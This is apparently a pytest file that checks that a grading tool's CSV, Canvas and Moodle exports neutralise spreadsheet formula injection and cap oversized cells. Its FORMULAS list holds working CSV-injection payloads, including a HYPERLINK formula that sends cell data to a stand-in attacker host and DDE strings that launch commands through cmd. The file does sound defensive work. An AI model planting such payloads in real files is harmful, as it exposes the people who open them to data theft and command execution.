"""grading.reports.tables: no CSV the grader writes runs a formula in a spreadsheet, and every reader opens it."""

from __future__ import annotations

import csv

import pytest

from grading.reports import tables
from grading.reports.gradebook import write_csv
from grading.reports.lms import export, read_grades

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def formula_cells(path) -> list[str]:
    """Every cell of a CSV file that a spreadsheet would evaluate."""
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row
                if cell.startswith(tables.FORMULA_STARTS) and not tables.NUMBER.fullmatch(cell)]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_is_prefixed_and_numbers_are_not(text):
    """Formula starts get a leading quote; numbers (negative ones too) and plain text stay as they are."""
    assert tables.safe_cell(text) == "'" + text
    for value in (-1.5, 3, "-0.25", "+4", "1e-3", "alice", "", None):
        assert tables.safe_cell(value) == value
    assert tables.safe_cell("'" + text) == "'" + text  # read back and written again: never quoted twice


def test_huge_cells_are_capped_and_old_huge_files_still_read(tmp_path):
    """An 11 MB note is cut to MAX_CELL_CHARS; a CSV written before the cap (11 MB field) still reads."""
    path = tmp_path / "grades_optimization.csv"
    write_csv(path, [{"student_id": "a", "status": "graded", "total": 1, "max_total": 10, "notes": "x" * 11_000_000}],
              [])
    _, rows = tables.read_dicts(path)
    assert len(rows[0]["notes"]) < tables.MAX_CELL_CHARS + 100 and "characters cut" in rows[0]["notes"]
    with open(path, "w", newline="") as f:  # as an older grader wrote it
        writer = csv.writer(f)
        writer.writerow(["student_id", "student_name", "origin", "total", "max_total", "status", "notes"])
        writer.writerow(["a", "a", "a_1_2_optimization.ipynb", 1, 10, "graded", "x" * 11_000_000])
    rows, warnings = read_grades(path)
    assert [r.student_id for r in rows] == ["a"] and not warnings


def test_formula_names_reach_no_export_as_formulas(tmp_path):
    """Student names made of formulas: the grade CSV, Canvas and both Moodle files keep them inert."""
    grades = tmp_path / "grades_optimization.csv"
    rows = [{"student_id": f"s{i}", "student_name": name, "origin": f"x_{100 + i}_{200 + i}_optimization.ipynb",
             "total": 5 - i, "max_total": 10, "status": "graded", "notes": name, "review_flags": name}
            for i, name in enumerate(FORMULAS)]
    write_csv(grades, rows, [])
    outputs = [grades]
    for kind, fmt in (("canvas", None), ("moodle", "worksheet")):
        out = tmp_path / f"{kind}.csv"
        roster = tmp_path / "roster.csv"
        tables.write_dicts(roster, ["student_id", "participant", "canvas_id"],
                           [{"student_id": f"s{i}", "participant": str(i + 1), "canvas_id": str(100 + i)}
                            for i in range(len(FORMULAS))])
        export(kind, grades, out, roster=roster, moodle_format=fmt)
        outputs.append(out)
    for path in outputs:
        text = path.read_text()
        assert "HYPERLINK" in text and "SUM(1+1)" in text, path  # the names are there, only inert
        assert formula_cells(path) == [], path
